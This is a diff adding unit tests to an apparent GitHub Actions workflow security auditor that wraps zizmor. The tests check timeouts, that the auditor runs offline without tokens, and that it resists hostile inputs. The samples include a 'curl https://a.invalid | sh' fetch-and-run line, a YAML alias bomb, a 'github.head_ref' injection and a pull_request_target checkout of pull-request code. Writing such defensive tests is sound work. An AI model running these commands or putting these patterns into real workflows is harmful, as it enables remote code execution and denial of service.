@@ -16,6 +16,8 @@ from pytest_fwgates.checks.security.workflow.downloads import run_unseen
 from pytest_fwgates.framework.configuration import Settings
 from pytest_fwgates.framework.index import load
 from pytest_fwgates.model import UNSET
+from pytest_fwgates.tools import adapter, zizmor
+from pytest_fwgates.tools.adapter import Unproven
 from tests.unit.checks.security.labelled_base import HOST, WORKFLOW
 from tests.unit.checks.security.labelled_workflows import BAD, GOOD, samples
 
@@ -206,3 +208,71 @@ def test_ignored_files_are_audited(tmp_path: Path) -> None:
     """What a configuration ignores runs all the same."""
     framework(tmp_path, {WORKFLOW: sound("curl https://a.invalid | sh")})
     assert len(insecure_workflows(load(tmp_path, Settings(ignore=(".github/**",))))) == 1
+
+
+def test_an_auditor_that_takes_too_long_proves_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """It is ended, and what it would have said is not guessed."""
+    monkeypatch.setattr(zizmor, "SECONDS", 0.001)
+    framework(tmp_path, {WORKFLOW: sound("make")})
+    with pytest.raises(Unproven, match=r"zizmor took longer than 0\.001 s"):
+        audit(load(tmp_path))
+
+
+def test_the_auditor_is_offline_and_gets_no_token(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whatever the environment and the framework's files say."""
+    said = tmp_path / "said"
+    program = tmp_path / "zizmor"
+    program.write_text(f'#!/bin/sh\n(env; echo "$@"; ls -A) > {said}\n', encoding="utf-8")
+    program.chmod(0o755)
+    monkeypatch.setattr(adapter, "program", lambda name: str(program))
+    for name in ("GH_TOKEN", "GITHUB_TOKEN", "ZIZMOR_GITHUB_TOKEN", "ZIZMOR_CONFIG", "ZIZMOR_ONLINE"):
+        monkeypatch.setenv(name, "not-for-it")
+    root = framework(tmp_path / "f", {WORKFLOW: sound("make"), "zizmor.yml": "rules: {}\n"})
+    audit(load(root))
+    text = said.read_text(encoding="utf-8")
+    assert "not-for-it" not in text
+    assert "--offline" in text
+    assert "--no-config" in text
+    assert "zizmor.yml" not in text
+
+
+def bomb() -> str:
+    levels = [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
+    return "\n".join(["a0: &a0 x", *levels, sound("curl https://a.invalid | sh")])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        bomb(),
+        sound("\n".join(["echo ${{ github.head_ref }}"] * 2000)),
+        sound("make") + "      - run: make\n" * 50_000,
+        sound("x" * 2_000_000),
+        sound("make").replace("a:", "a: &a\n    <<: *a", 1),
+    ],
+    ids=["aliases", "expressions", "steps", "one line", "itself"],
+)
+def test_hostile_workflows_end(tmp_path: Path, text: str) -> None:
+    """In findings or without a proof, and soon."""
+    start = time.monotonic()
+    framework(tmp_path, {WORKFLOW: text})
+    try:
+        scan = audit(load(tmp_path))
+    except Unproven:
+        scan = None
+    assert scan is None or scan.unproven or scan.examined == 1
+    assert time.monotonic() - start < 30
+
+
+def test_what_actions_of_the_framework_do_counts_where_they_are_used(tmp_path: Path) -> None:
+    """A pull request that such an action checks out is foreign code in the workflow."""
+    head = "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n"
+    use = f"{head}      - uses: ./b\n"
+    runs = "runs:\n  using: composite\n  steps:\n    - shell: sh\n      run: gh pr checkout 1\n"
+    takes = f"name: b\ndescription: b\n{runs}"
+    framework(tmp_path, {WORKFLOW: use, "b/action.yml": takes})
+    assert [one.path for one in insecure_workflows(load(tmp_path))] == [WORKFLOW]
+    framework(tmp_path, {"b/action.yml": takes.replace("gh pr checkout 1", "make")})
+    assert insecure_workflows(load(tmp_path)) == []
